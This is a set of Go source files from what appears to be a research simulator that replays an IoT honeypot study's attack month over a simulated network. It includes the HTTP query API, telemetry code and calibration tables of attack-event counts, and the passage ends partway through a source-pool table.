func (o *Observatory) appendWall(cyc int64, legs []obs.CycleLeg, total time.Duration) {
	if o == nil || !o.sampleWall {
		return
	}
	o.lastLegs, o.lastTotal = legs, total
	for _, leg := range legs {
		o.Wall.Append(cyc, "serve.cycle.leg_wall_ns",
			tsdb.Labels{{Key: "leg", Value: leg.Name}}, float64(leg.WallNS))
	}
	o.Wall.Append(cyc, "serve.cycle.wall_ns", nil, float64(total.Nanoseconds()))

	var ms runtime.MemStats
	runtime.ReadMemStats(&ms)
	o.Wall.Append(cyc, "runtime.heap_alloc_bytes", nil, float64(ms.HeapAlloc))
	if o.havePrev {
		o.Wall.Append(cyc, "runtime.gc_pause_delta_ns", nil, float64(ms.PauseTotalNs-o.prevMem.PauseTotalNs))
		o.Wall.Append(cyc, "runtime.gc_count_delta", nil, float64(ms.NumGC-o.prevMem.NumGC))
	} else {
		o.Wall.Append(cyc, "runtime.gc_pause_delta_ns", nil, float64(ms.PauseTotalNs))
		o.Wall.Append(cyc, "runtime.gc_count_delta", nil, float64(ms.NumGC))
	}
	o.prevMem, o.havePrev = ms, true

	o.Wall.Append(cyc, "serve.api.requests", nil, float64(o.apiReqs.Load()))
	o.Wall.Append(cyc, "serve.api.latency_sum_ns", nil, float64(o.apiLatSum.Load()))
	o.Wall.Append(cyc, "serve.api.latency_max_ns", nil, float64(o.apiLatMax.Load()))
}

// LastCycleWall returns the most recent cycle's leg attribution for the
// /api/status ops block.
func (o *Observatory) LastCycleWall() ([]obs.CycleLeg, time.Duration) {
	if o == nil {
		return nil, 0
	}
	return o.lastLegs, o.lastTotal
}

// publish seals both streams' views.
func (o *Observatory) publish() {
	if o == nil {
		return
	}
	o.Sim.Publish()
	o.Wall.Publish()
}

// inflightScanStats flattens the in-flight sweep's per-module deterministic
// stat counters (nil state = between sweeps = no in-flight counters).
func inflightScanStats(st *scan.SegmentedState) map[string]uint64 {
	if st == nil {
		return nil
	}
	out := make(map[string]uint64)
	for _, m := range st.Modules {
		for name, v := range m.Stats.Counters() {
			out[name] += v
		}
	}
	return out
}

// sortedProtoKeys merges and sorts the protocol keys of two exposure maps.
func sortedProtoKeys(ms ...map[string]*ProtocolExposure) []string {
	seen := make(map[string]bool)
	var out []string
	for _, m := range ms {
		for k := range m {
			if !seen[k] {
				seen[k] = true
				out = append(out, k)
			}
		}
	}
	sort.Strings(out)
	return out
}

// sortedStatKeys merges and sorts the stat names of two counter maps.
func sortedStatKeys(ms ...map[string]uint64) []string {
	seen := make(map[string]bool)
	var out []string
	for _, m := range ms {
		for k := range m {
			if !seen[k] {
				seen[k] = true
				out = append(out, k)
			}
		}
	}
	sort.Strings(out)
	return out
}

// writeHourFiles persists the just-drained day's telescope capture, rotated
// hourly, under dir: dayNNNN-hourHH.csv, one file per rotation bucket, each
// written atomically and content-digested for the manifest. Flow order
// inside a file is the telescope's canonical drain order restricted to the
// hour, so the bytes are worker-count and kill-history independent.
func writeHourFiles(dir string, cyc int, dayStart time.Time, flows []*telescope.FlowTuple, digests map[string]string) error {
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return err
	}
	parts := telescope.PartitionByHour(flows, dayStart, 24)
	for h, part := range parts {
		name := fmt.Sprintf("day%04d-hour%02d.csv", cyc, h)
		path := filepath.Join(dir, name)
		dw := obs.NewDigestWriter()
		err := atomicio.WriteFile(path, func(w io.Writer) error {
			mw := io.MultiWriter(w, dw)
			if err := telescope.WriteCSVHeader(mw); err != nil {
				return err
			}
			for _, ft := range part {
				if err := ft.WriteCSV(mw); err != nil {
					return err
				}
			}
			return nil
		})
		if err != nil {
			return err
		}
		digests[name] = dw.Sum()
		crashpoint.Here(crashpoint.SiteServeHourFileWritten)
	}
	return nil
}
