package serve

import (
	"encoding/json"
	"net/http"
	"net/http/pprof"
	"time"

	"openhire/internal/obs"
	"openhire/internal/obs/tsdb"
)

// NewMux builds the daemon's query mux:
//
//	/api/exposure   — per-protocol exposure tables (current / complete / total)
//	/api/trends     — the attack-trend time series, one row per simulated day
//	/api/correlate  — misconfiguration/attacker correlation join counts
//	/api/status     — watermark + resolved run parameters + ops health
//	/api/timeseries — the observatory: catalog without ?metric, range query
//	                  with (?metric=…&label=k:v&from=…&to=…&step=…&tier=…,
//	                  ?format=prom for Prometheus range text)
//	/metrics        — the obs registry (JSON, ?format=prom), when reg != nil
//	/debug/pprof/   — the standard pprof handlers
//
// Every /api handler serves pre-rendered bodies or immutable COW views — a
// pointer load, no locks, no live state — and answers 503 until the first
// cycle commits. Scrape traffic therefore cannot perturb the run: the
// zero-perturbation equivalence tests hammer these endpoints while a cycle
// loop runs and assert byte-identical artifacts. When obsv != nil, handler
// latency is sampled into the wall-clock profiling stream (atomics only —
// never sim state).
func NewMux(p *Publisher, reg *obs.Registry, obsv *Observatory) *http.ServeMux {
	mux := http.NewServeMux()
	handle := func(pattern string, h http.HandlerFunc) {
		mux.HandleFunc(pattern, timed(obsv, h))
	}
	handle("/api/exposure", snapshotHandler(p, func(s *Published) []byte { return s.Exposure }))
	handle("/api/trends", snapshotHandler(p, func(s *Published) []byte { return s.Trends }))
	handle("/api/correlate", snapshotHandler(p, func(s *Published) []byte { return s.Correlate }))
	handle("/api/status", snapshotHandler(p, func(s *Published) []byte { return s.Status }))
	if obsv != nil {
		handle("/api/timeseries", timeseriesHandler(p, obsv))
	}
	if reg != nil {
		mux.HandleFunc("/metrics", reg.MetricsHandler())
	}
	mux.HandleFunc("/debug/pprof/", pprof.Index)
	mux.HandleFunc("/debug/pprof/cmdline", pprof.Cmdline)
	mux.HandleFunc("/debug/pprof/profile", pprof.Profile)
	mux.HandleFunc("/debug/pprof/symbol", pprof.Symbol)
	mux.HandleFunc("/debug/pprof/trace", pprof.Trace)
	return mux
}

// timed samples handler wall latency into the observatory's profiling stream.
func timed(obsv *Observatory, h http.HandlerFunc) http.HandlerFunc {
	if obsv == nil {
		return h
	}
	return func(w http.ResponseWriter, r *http.Request) {
		start := time.Now()
		h(w, r)
		obsv.ObserveRequest(time.Since(start))
	}
}

// snapshotHandler serves one pre-rendered body from the current snapshot.
func snapshotHandler(p *Publisher, body func(*Published) []byte) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		s := p.Snapshot()
		if s == nil {
			http.Error(w, "no cycle committed yet", http.StatusServiceUnavailable)
			return
		}
		w.Header().Set("Content-Type", "application/json")
		_, _ = w.Write(body(s))
	}
}

// timeseriesHandler answers observatory queries from the published COW views.
// Without ?metric it returns the merged sim+wall catalog; with one it queries
// the sim stream first and falls back to the wall stream, so a metric name is
// enough — callers never say which store a series lives in.
func timeseriesHandler(p *Publisher, obsv *Observatory) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		if p.Snapshot() == nil {
			http.Error(w, "no cycle committed yet", http.StatusServiceUnavailable)
			return
		}
		q, err := tsdb.ParseQuery(r.URL.Query())
		if err != nil {
			http.Error(w, err.Error(), http.StatusBadRequest)
			return
		}
		sim, wall := obsv.Sim.View(), obsv.Wall.View()
		if q.Metric == "" {
			writeJSON(w, sim.Catalog("sim").Merge(wall.Catalog("wall")))
			return
		}
		res := sim.Query(q)
		if len(res.Series) == 0 {
			if wr := wall.Query(q); len(wr.Series) > 0 {
				res = wr
			}
		}
		if r.URL.Query().Get("format") == "prom" {
			w.Header().Set("Content-Type", "text/plain; version=0.0.4; charset=utf-8")
			_ = res.WritePrometheus(w)
			return
		}
		writeJSON(w, res)
	}
}

// writeJSON renders v like the pre-rendered bodies: indented, newline-
// terminated.
func writeJSON(w http.ResponseWriter, v any) {
	data, err := json.MarshalIndent(v, "", "  ")
	if err != nil {
		http.Error(w, err.Error(), http.StatusInternalServerError)
		return
	}
	w.Header().Set("Content-Type", "application/json")
	_, _ = w.Write(append(data, '\n'))
}
