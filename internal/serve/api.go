package serve

import (
	"net/http"
	"net/http/pprof"

	"openhire/internal/obs"
)

// NewMux builds the daemon's query mux:
//
//	/api/exposure  — per-protocol exposure tables (current / complete / total)
//	/api/trends    — the attack-trend time series, one row per simulated day
//	/api/correlate — misconfiguration/attacker correlation join counts
//	/api/status    — watermark + resolved run parameters
//	/metrics       — the obs registry (JSON, ?format=prom), when reg != nil
//	/debug/pprof/  — the standard pprof handlers
//
// Every /api handler serves a pre-rendered body from the publisher's current
// snapshot — a pointer load, no locks, no live state — and answers 503 until
// the first cycle commits. Scrape traffic therefore cannot perturb the run:
// the zero-perturbation equivalence tests hammer these endpoints while a
// cycle loop runs and assert byte-identical artifacts.
func NewMux(p *Publisher, reg *obs.Registry) *http.ServeMux {
	mux := http.NewServeMux()
	mux.HandleFunc("/api/exposure", snapshotHandler(p, func(s *Published) []byte { return s.Exposure }))
	mux.HandleFunc("/api/trends", snapshotHandler(p, func(s *Published) []byte { return s.Trends }))
	mux.HandleFunc("/api/correlate", snapshotHandler(p, func(s *Published) []byte { return s.Correlate }))
	mux.HandleFunc("/api/status", snapshotHandler(p, func(s *Published) []byte { return s.Status }))
	if reg != nil {
		mux.HandleFunc("/metrics", reg.MetricsHandler())
	}
	mux.HandleFunc("/debug/pprof/", pprof.Index)
	mux.HandleFunc("/debug/pprof/cmdline", pprof.Cmdline)
	mux.HandleFunc("/debug/pprof/profile", pprof.Profile)
	mux.HandleFunc("/debug/pprof/symbol", pprof.Symbol)
	mux.HandleFunc("/debug/pprof/trace", pprof.Trace)
	return mux
}

// snapshotHandler serves one pre-rendered body from the current snapshot.
func snapshotHandler(p *Publisher, body func(*Published) []byte) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		s := p.Snapshot()
		if s == nil {
			http.Error(w, "no cycle committed yet", http.StatusServiceUnavailable)
			return
		}
		w.Header().Set("Content-Type", "application/json")
		_, _ = w.Write(body(s))
	}
}
