package attack

import (
	"context"
	"sort"
	"sync"
	"sync/atomic"
	"time"

	"openhire/internal/attack/malware"
	"openhire/internal/geo"
	"openhire/internal/honeypot"
	"openhire/internal/intel"
	"openhire/internal/iot"
	"openhire/internal/netsim"
	"openhire/internal/prng"
)

// CampaignConfig parameterizes the attack-month replay.
type CampaignConfig struct {
	// Seed drives every stochastic choice.
	Seed uint64
	// Network is the fabric carrying the attacks.
	Network *netsim.Network
	// Honeypots are the deployed targets (from honeypot.DeployAll).
	Honeypots []*honeypot.Honeypot
	// Universe provides infected misconfigured devices (may be nil).
	Universe *iot.Universe
	// Sources manages address pools. Required.
	Sources *Sources
	// Corpus is the malware sample set. Required for malware attacks.
	Corpus *malware.Corpus
	// Intensity scales the Table 7 event volumes (1.0 replays all 200,209
	// events; tests use small fractions). Must be > 0.
	Intensity float64
	// Workers is attack concurrency (0 = 64).
	Workers int
	// Clock must be the network's SimClock so honeypot logs carry April
	// 2021 timestamps.
	Clock *netsim.SimClock
	// GreyNoise and VirusTotal, when set, receive source registrations for
	// the classification experiments.
	GreyNoise  *intel.GreyNoise
	VirusTotal *intel.VirusTotal
	// RDNS, when set, is used for scanning-service reverse registration.
	RDNS *geo.RDNS
	// MultistageActors is the number of deliberate multi-protocol
	// adversaries to schedule (0 = scaled PaperMultistageCount).
	MultistageActors int
	// OnDay, when set, is called at each day boundary after the day's jobs
	// have drained and the fabric has quiesced, with the day index and the
	// cumulative planned/run event counts. It runs on the single-threaded
	// scheduler between days — never inside the worker hot path — so wiring
	// a progress reporter or span tracer here cannot perturb the replay;
	// leaving it nil (the default) is byte-identical to not having the hook.
	OnDay func(day, planned, run int)
	// Resume, when set, restarts the month mid-way: Run begins at
	// Resume.NextDay with the scheduler stream repositioned and the
	// cumulative counters seeded, so the remaining days replay exactly the
	// schedule an uninterrupted run would have produced. The caller restores
	// the honeypot logs separately (honeypot.Log appends are arrival-order
	// insensitive once SortEventsCanonical is applied).
	Resume *CampaignResume
	// Days, when > 0, bounds how many days this Run call executes before
	// returning (counted from the start day; 0 = the rest of the month).
	// Capturing SchedulerState in the final OnDay and passing it back as the
	// next call's Resume steps the month day-by-day — the serve daemon's
	// cadence — with the concatenated runs byte-identical to one uninterrupted
	// Run. When the bound stops short of day 30 the end-of-month clock jump is
	// skipped, leaving the shared SimClock where the next day's Set expects it.
	Days int
}

// CampaignResume is the campaign scheduler's resumable position, captured at
// a day boundary — inside OnDay, after the day's jobs drained and the fabric
// quiesced, where the scheduler is single-threaded and every stochastic
// consumer of the scheduler stream is at rest.
type CampaignResume struct {
	// NextDay is the first day the resumed Run executes.
	NextDay int `json:"next_day"`
	// SrcState is the scheduler PRNG stream position (prng.Source.State).
	SrcState uint64 `json:"src_state"`
	// EventsPlanned and EventsRun seed the cumulative counters.
	EventsPlanned int `json:"events_planned"`
	EventsRun     int `json:"events_run"`
}

// Campaign replays the paper's attack month.
type Campaign struct {
	cfg     CampaignConfig
	exec    *Executor
	src     *prng.Source
	pools   map[string]*honeypotPools
	byName  map[string]*honeypot.Honeypot
	weights []float64
}

// honeypotPools holds the per-honeypot source pools sized per Table 7.
type honeypotPools struct {
	scanning  []netsim.IPv4
	malicious []netsim.IPv4
	unknown   []netsim.IPv4
}

// NewCampaign validates config and provisions source pools.
func NewCampaign(cfg CampaignConfig) *Campaign {
	if cfg.Intensity <= 0 {
		cfg.Intensity = 1.0
	}
	if cfg.Workers == 0 {
		cfg.Workers = 64
	}
	c := &Campaign{
		cfg:     cfg,
		exec:    NewExecutor(cfg.Network, cfg.Corpus),
		src:     prng.New(cfg.Seed),
		pools:   make(map[string]*honeypotPools),
		byName:  make(map[string]*honeypot.Honeypot),
		weights: DayWeights(),
	}
	for _, hp := range cfg.Honeypots {
		c.byName[hp.Name] = hp
	}

	// Infected devices that target honeypots join the malicious pools.
	var infectedForPots []netsim.IPv4
	if cfg.Universe != nil {
		for _, ip := range cfg.Sources.DeriveInfected() {
			if t, _ := cfg.Sources.InfectedTargetsFor(ip); t.Honeypots {
				infectedForPots = append(infectedForPots, ip)
			}
		}
	}

	// Pool sizes follow Table 7's unique-source columns, scaled. The pool
	// builds consume one shared PRNG stream, so honeypots must be visited in
	// a fixed order: ranging over the map here handed each honeypot a
	// different slice of the stream every run (map iteration order is
	// randomized), making the replay's source assignment — and every log
	// derived from it — differ run to run.
	names := make([]string, 0, len(PaperSourcePools))
	for name := range PaperSourcePools {
		names = append(names, name)
	}
	sort.Strings(names)
	idx := 0
	for _, name := range names {
		targets := PaperSourcePools[name]
		if _, deployed := c.byName[name]; !deployed {
			continue
		}
		p := &honeypotPools{
			scanning: cfg.Sources.BuildScanningPool(scaleCount(targets.Scanning, cfg.Intensity)),
			unknown:  cfg.Sources.BuildUnknownPool(scaleCount(targets.Unknown, cfg.Intensity)),
		}
		// Spread infected devices across honeypot pools round-robin, then
		// fill with ordinary malicious hosts.
		var infectedSlice []netsim.IPv4
		for i := idx; i < len(infectedForPots); i += len(PaperSourcePools) {
			infectedSlice = append(infectedSlice, infectedForPots[i])
		}
		idx++
		p.malicious = cfg.Sources.BuildMaliciousPool(
			scaleCount(targets.Malicious, cfg.Intensity), infectedSlice)
		c.pools[name] = p
	}
	return c
}

func scaleCount(n int, intensity float64) int {
	v := int(float64(n) * intensity)
	if v < 1 {
		v = 1
	}
	return v
}

// Stats summarizes a replay.
type Stats struct {
	EventsPlanned int
	EventsRun     int
	Elapsed       time.Duration
}

// Counters flattens the deterministic stat fields for the metrics registry
// and run manifest (Elapsed is wall-clock and excluded).
func (st Stats) Counters() map[string]uint64 {
	return map[string]uint64{
		"events_planned": uint64(st.EventsPlanned),
		"events_run":     uint64(st.EventsRun),
	}
}

// Run replays the month: for each day, each (honeypot, protocol) target
// receives its scaled share of events with the calibrated type mix and
// source classes. Events within a day run concurrently; days advance the
// simulation clock sequentially so Figure 8's series is faithful.
// genPool recycles per-job PRNG sources; every job reseeds its source from
// the plan, so recycling cannot leak state between jobs.
var genPool = sync.Pool{New: func() any { return prng.New(0) }}

func (c *Campaign) Run(ctx context.Context) Stats {
	start := time.Now()
	var stats Stats

	type job struct {
		typ   honeypot.AttackType
		proto iot.Protocol
		src   netsim.IPv4
		dst   netsim.IPv4
		seed  uint64
	}
	// Jobs run on the netsim conversation engine: hash-of-(src,dst) shards,
	// each a single-threaded FIFO lane. The honeypot flood heuristic's
	// counter key (honeypot instance = dst, protocol, source, day) is strictly
	// finer than the (src, dst) routing key, so all events of one counter key
	// execute on one shard, in schedule order. The logs' *content* (including
	// which events the heuristic upgrades to DoS) is therefore a pure
	// function of the plan, independent of shard count; only arrival order
	// varies, which honeypot.SortEventsCanonical factors out. Dials made
	// inside a job also land on the shard's conversation arena, so the whole
	// dialogue recycles shard-local state instead of allocating.
	engine := netsim.NewConvEngine(c.cfg.Workers)
	// dayWG drains in-flight jobs at day boundaries so every event is
	// stamped with the day it was scheduled for — Figure 8's daily series
	// and the multistage stage ordering depend on it.
	var dayWG sync.WaitGroup
	var runCount atomic.Int64
	dispatch := func(j job) {
		dayWG.Add(1)
		accepted := engine.Submit(ctx, j.src, j.dst, func(jctx context.Context) {
			gen := genPool.Get().(*prng.Source)
			gen.Reseed(j.seed)
			_ = c.exec.Execute(jctx, j.typ, j.proto, j.src, j.dst, gen)
			genPool.Put(gen)
			runCount.Add(1)
			dayWG.Done()
		})
		if !accepted { // context cancelled before the shard took the job
			dayWG.Done()
		}
	}

	multistage := c.planMultistage()

	// Resuming repositions only the scheduler stream and counters: the pools
	// and multistage plans above were rebuilt by replaying NewCampaign and
	// planMultistage's exact consumption sequence, so they already match the
	// interrupted run.
	startDay := 0
	if r := c.cfg.Resume; r != nil {
		startDay = r.NextDay
		c.src.SetState(r.SrcState)
		stats.EventsPlanned = r.EventsPlanned
		runCount.Store(int64(r.EventsRun))
	}
	endDay := ExperimentDays
	if c.cfg.Days > 0 && startDay+c.cfg.Days < endDay {
		endDay = startDay + c.cfg.Days
	}

	for day := startDay; day < endDay; day++ {
		if ctx.Err() != nil {
			break
		}
		// The day schedule is monotonic by construction (each day's stamp is
		// past the previous day's), so a refused Set is a driver bug; fail
		// loudly rather than logging events into a silently skewed timeline.
		if err := c.cfg.Clock.Set(DayStart(day).Add(time.Duration(day%7) * time.Minute)); err != nil {
			panic("attack: campaign day schedule not monotonic: " + err.Error())
		}
		for _, target := range PaperTargets {
			hp, ok := c.byName[target.Honeypot]
			if !ok {
				continue
			}
			pools := c.pools[target.Honeypot]
			quota := float64(target.Events) * c.cfg.Intensity * c.weights[day] /
				LogAmplificationFor(target.Honeypot, target.Protocol)
			dayEvents := int(quota)
			if dayEvents == 0 && c.src.Bool(quota) {
				dayEvents = 1
			}
			mix, hasMix := ProtocolTypeMix[target.Protocol]
			for i := 0; i < dayEvents; i++ {
				typ := honeypot.AttackScan
				if hasMix {
					typ = sampleType(c.src, mix)
				}
				// DoS spike days skew toward floods.
				if isDoSSpike(day) && c.src.Bool(0.5) {
					if target.Protocol == iot.ProtoCoAP || target.Protocol == iot.ProtoUPnP ||
						target.Protocol == iot.ProtoHTTP || target.Protocol == iot.ProtoS7 {
						typ = honeypot.AttackDoS
					}
				}
				src := c.pickSource(pools, target.Protocol, typ)
				stats.EventsPlanned++
				dispatch(job{typ: typ, proto: target.Protocol, src: src, dst: hp.IP,
					seed: c.src.Uint64()})
			}
		}
		// Multistage actors run one stage per day: the paper notes follow-up
		// attacks from the same adversary arrive days apart (Section 5.4),
		// and consecutive days give the stages unambiguous time order.
		for _, m := range multistage {
			stageIdx := day - m.day
			if stageIdx < 0 || stageIdx >= len(m.steps) {
				continue
			}
			step := m.steps[stageIdx]
			hp, ok := c.byName[step.pot]
			if !ok {
				continue
			}
			stats.EventsPlanned++
			dispatch(job{typ: step.typ, proto: step.proto, src: m.src, dst: hp.IP,
				seed: c.src.Uint64()})
		}
		// Drain before the clock moves to the next day: first the job queues
		// (clients returned), then the fabric's server handlers — a returned
		// client does not mean the honeypot finished logging the
		// conversation, and a handler outliving the day boundary would stamp
		// its tail events into the wrong Figure 8 bucket.
		dayWG.Wait()
		c.cfg.Network.Quiesce()
		if c.cfg.OnDay != nil {
			c.cfg.OnDay(day, stats.EventsPlanned, int(runCount.Load()))
		}
	}
	engine.Close()
	c.cfg.Network.Quiesce() // the log is complete once Run returns
	// Leave the clock at the end of the month — but only when the month
	// actually ended. A Days-bounded call stopping mid-month must leave the
	// clock inside the month, or the next call's first day Set would move
	// backwards and panic.
	if endDay == ExperimentDays {
		if err := c.cfg.Clock.Set(DayStart(ExperimentDays)); err != nil {
			panic("attack: end-of-month clock set not monotonic: " + err.Error())
		}
	}
	stats.EventsRun = int(runCount.Load())
	stats.Elapsed = time.Since(start)
	return stats
}

// SchedulerState captures the scheduler's position for checkpointing. Call
// it from inside OnDay(day, planned, run): the returned state resumes the
// month at day+1. Calling it anywhere else races the worker pool.
func (c *Campaign) SchedulerState(day, planned, run int) CampaignResume {
	return CampaignResume{
		NextDay:       day + 1,
		SrcState:      c.src.State(),
		EventsPlanned: planned,
		EventsRun:     run,
	}
}

func isDoSSpike(day int) bool {
	for _, d := range DoSSpikeDays {
		if d == day {
			return true
		}
	}
	return false
}

// sampleTypeOrder fixes the iteration order for determinism.
var sampleTypeOrder = [...]honeypot.AttackType{
	honeypot.AttackScan, honeypot.AttackBruteForce, honeypot.AttackDictionary,
	honeypot.AttackMalware, honeypot.AttackPoisoning, honeypot.AttackDoS,
	honeypot.AttackReflection, honeypot.AttackExploit, honeypot.AttackWebScrape,
}

// sampleType draws an attack type from a mix.
func sampleType(src *prng.Source, mix TypeMix) honeypot.AttackType {
	var weights [len(sampleTypeOrder)]float64
	for i, t := range sampleTypeOrder {
		weights[i] = mix[t]
	}
	return sampleTypeOrder[src.WeightedChoice(weights[:])]
}

// pickSource draws a source address appropriate for the attack type:
// scanning events come mostly from scanning services, everything else from
// the malicious or unknown pools. Malicious sources are sharded per
// protocol — real botnets specialize (a Telnet worm does not also poke
// Modbus) — which keeps organic cross-protocol reuse rare so the deliberate
// multistage actors (Section 5.4) dominate the multistage analysis.
func (c *Campaign) pickSource(p *honeypotPools, proto iot.Protocol, typ honeypot.AttackType) netsim.IPv4 {
	switch typ {
	case honeypot.AttackScan, honeypot.AttackWebScrape:
		roll := c.src.Float64()
		switch {
		case roll < 0.5 && len(p.scanning) > 0:
			return p.scanning[c.src.Intn(len(p.scanning))]
		case roll < 0.8 && len(p.unknown) > 0:
			return c.shardPick(p.unknown, proto)
		default:
			return c.shardPick(p.malicious, proto)
		}
	default:
		if len(p.malicious) == 0 {
			return c.shardPick(p.unknown, proto)
		}
		return c.shardPick(p.malicious, proto)
	}
}

// protocolShard maps each honeypot-exposed protocol to a distinct pool
// shard; the assignment must be collision-free or two protocols would share
// sources and register as phantom multistage attacks.
var protocolShard = map[iot.Protocol]int{
	iot.ProtoTelnet: 0, iot.ProtoSSH: 1, iot.ProtoMQTT: 2, iot.ProtoAMQP: 3,
	iot.ProtoXMPP: 4, iot.ProtoCoAP: 5, iot.ProtoUPnP: 6, iot.ProtoHTTP: 7,
	iot.ProtoSMB: 8, iot.ProtoS7: 9, iot.ProtoModbus: 10, iot.ProtoFTP: 11,
}

// shardPick selects from the protocol's shard of a pool.
func (c *Campaign) shardPick(pool []netsim.IPv4, proto iot.Protocol) netsim.IPv4 {
	n := len(pool)
	shards := len(protocolShard)
	shardSize := n / shards
	if shardSize == 0 {
		return pool[c.src.Intn(n)]
	}
	base := protocolShard[proto] * shardSize
	return pool[base+c.src.Intn(shardSize)]
}

// multistagePlan is one deliberate multi-protocol adversary (Section 5.4).
type multistagePlan struct {
	src   netsim.IPv4
	day   int
	steps []multistageStep
}

type multistageStep struct {
	pot   string
	proto iot.Protocol
	typ   honeypot.AttackType
}

// planMultistage builds the Figure 9 adversaries: sequences starting with
// Telnet/SSH, hitting SMB heavily at stage two and S7 at stage three.
func (c *Campaign) planMultistage() []multistagePlan {
	count := c.cfg.MultistageActors
	if count == 0 {
		count = scaleCount(PaperMultistageCount, c.cfg.Intensity)
		// Keep enough actors for the Figure 9 stage distribution to be
		// visible even in heavily scaled-down replays.
		if count < 10 {
			count = 10
		}
	}
	gen := c.src.Derive(prng.HashString("multistage"))
	var plans []multistagePlan
	for i := 0; i < count; i++ {
		src := c.cfg.Sources.BuildMaliciousPool(1, nil)[0]
		// Start early enough that a three-stage sequence fits the month.
		plan := multistagePlan{src: src, day: gen.Intn(ExperimentDays - 3)}
		// Stage 1: Telnet or SSH (the majority per Figure 9).
		if gen.Bool(0.6) {
			plan.steps = append(plan.steps, multistageStep{"Cowrie", iot.ProtoTelnet, honeypot.AttackBruteForce})
		} else {
			plan.steps = append(plan.steps, multistageStep{"Cowrie", iot.ProtoSSH, honeypot.AttackBruteForce})
		}
		// Stage 2: SMB receives most second-step attacks.
		if gen.Bool(0.75) {
			plan.steps = append(plan.steps, multistageStep{"HosTaGe", iot.ProtoSMB, honeypot.AttackExploit})
		} else {
			plan.steps = append(plan.steps, multistageStep{"HosTaGe", iot.ProtoHTTP, honeypot.AttackWebScrape})
		}
		// Stage 3 (some actors): S7.
		if gen.Bool(0.5) {
			plan.steps = append(plan.steps, multistageStep{"Conpot", iot.ProtoS7, honeypot.AttackPoisoning})
		}
		plans = append(plans, plan)
	}
	return plans
}

// RegisterIntel populates GreyNoise/VirusTotal from the replayed events:
// vendor flag probability follows the worst behaviour a source exhibited,
// so exploit/malware actors (SMB's EternalBlue droppers) are flagged most
// often — the Figure 6 shape where SMB sources lead the malicious share.
func (c *Campaign) RegisterIntel() {
	if c.cfg.VirusTotal == nil {
		return
	}
	gen := c.src.Derive(prng.HashString("vt"))
	flagProb := map[honeypot.AttackType]float64{
		honeypot.AttackExploit:    0.97,
		honeypot.AttackMalware:    0.95,
		honeypot.AttackDoS:        0.72,
		honeypot.AttackPoisoning:  0.68,
		honeypot.AttackDictionary: 0.66,
		honeypot.AttackBruteForce: 0.60,
		honeypot.AttackReflection: 0.50,
		honeypot.AttackWebScrape:  0.30,
		honeypot.AttackScan:       0.22,
	}
	// Worst observed behaviour per source.
	worst := make(map[netsim.IPv4]float64)
	var log *honeypot.Log
	for _, hp := range c.cfg.Honeypots {
		log = hp.Log()
		break
	}
	if log != nil {
		for _, ev := range log.Events() {
			if cls, ok := c.cfg.Sources.Class(ev.Src); ok && cls == ClassScanningService {
				continue // benign infrastructure is not VT-flagged
			}
			if p := flagProb[ev.Type]; p > worst[ev.Src] {
				worst[ev.Src] = p
			}
		}
	}
	// Iterate in address order: map range order is randomized, and the
	// flag draws below consume a shared stream, so an unsorted walk would
	// flag a different subset of sources every run.
	ips := make([]netsim.IPv4, 0, len(worst))
	for ip := range worst {
		ips = append(ips, ip)
	}
	sort.Slice(ips, func(i, j int) bool { return ips[i] < ips[j] })
	for _, ip := range ips {
		p := worst[ip]
		if gen.Bool(p) {
			c.cfg.VirusTotal.FlagIP(ip, 1+gen.Zipf(20, 1.3))
		}
		if c.cfg.GreyNoise != nil && p >= 0.6 && gen.Bool(0.6) {
			c.cfg.GreyNoise.RegisterMalicious(ip)
		}
	}
	// Every infected misconfigured device is VT-flagged: the paper reports
	// all 11,118 were flagged by at least one vendor (Section 5.3).
	for _, ip := range c.cfg.Sources.DeriveInfected() {
		c.cfg.VirusTotal.FlagIP(ip, 1+gen.Zipf(10, 1.5))
	}
}
