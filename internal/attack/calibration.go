// Package attack simulates the adversarial Internet of April 2021: the
// scanning services, botnets, bruteforcers, flooders, poisoners and
// multistage actors whose traffic the paper's honeypots and telescope
// recorded. Event volumes, source-pool sizes and the daily shape are
// calibrated to Table 7 and Figure 8; every honeypot-directed event is
// executed as a real protocol conversation over the simulated fabric, so the
// honeypots log exactly what their protocol servers observe.
package attack

import (
	"time"

	"openhire/internal/honeypot"
	"openhire/internal/iot"
)

// Target is the calibrated event volume for one (honeypot, protocol) pair —
// Table 7's "#Attack events" column.
type Target struct {
	Honeypot string
	Protocol iot.Protocol
	Events   int
}

// PaperTargets reproduces Table 7.
var PaperTargets = []Target{
	{"HosTaGe", iot.ProtoTelnet, 19733},
	{"HosTaGe", iot.ProtoMQTT, 2511},
	{"HosTaGe", iot.ProtoAMQP, 2780},
	{"HosTaGe", iot.ProtoCoAP, 11543},
	{"HosTaGe", iot.ProtoSSH, 19174},
	{"HosTaGe", iot.ProtoHTTP, 16192},
	{"HosTaGe", iot.ProtoSMB, 1830},
	{"U-Pot", iot.ProtoUPnP, 17101},
	{"Conpot", iot.ProtoSSH, 12837},
	{"Conpot", iot.ProtoTelnet, 12377},
	{"Conpot", iot.ProtoS7, 7113},
	{"Conpot", iot.ProtoHTTP, 11313},
	{"ThingPot", iot.ProtoXMPP, 11344},
	{"Cowrie", iot.ProtoSSH, 15459},
	{"Cowrie", iot.ProtoTelnet, 14963},
	{"Dionaea", iot.ProtoHTTP, 11974},
	{"Dionaea", iot.ProtoMQTT, 1557},
	{"Dionaea", iot.ProtoFTP, 3565},
	{"Dionaea", iot.ProtoSMB, 6873},
}

// PaperTotalEvents is Table 7's stated total. Note: the table's individual
// rows sum to 200,239 — the paper's own total differs by 30; we reproduce
// the rows verbatim and keep the stated total for reporting.
const PaperTotalEvents = 200209

// TargetsTotal sums the Table 7 rows.
func TargetsTotal() int {
	total := 0
	for _, t := range PaperTargets {
		total += t.Events
	}
	return total
}

// SourcePoolTargets is Table 7's unique-source columns per honeypot.
type SourcePoolTargets struct {
	Scanning  int
	Malicious int
	Unknown   int
}

// PaperSourcePools reproduces the per-honeypot unique source IP counts.
var PaperSourcePools = map[string]SourcePoolTargets{
	"HosTaGe":  {Scanning: 2866, Malicious: 21189, Unknown: 2347},
	"U-Pot":    {Scanning: 1121, Malicious: 7814, Unknown: 1786},
	"Conpot":   {Scanning: 1678, Malicious: 11765, Unknown: 1876},
	"ThingPot": {Scanning: 967, Malicious: 2172, Unknown: 963},
	"Cowrie":   {Scanning: 2111, Malicious: 12874, Unknown: 1113},
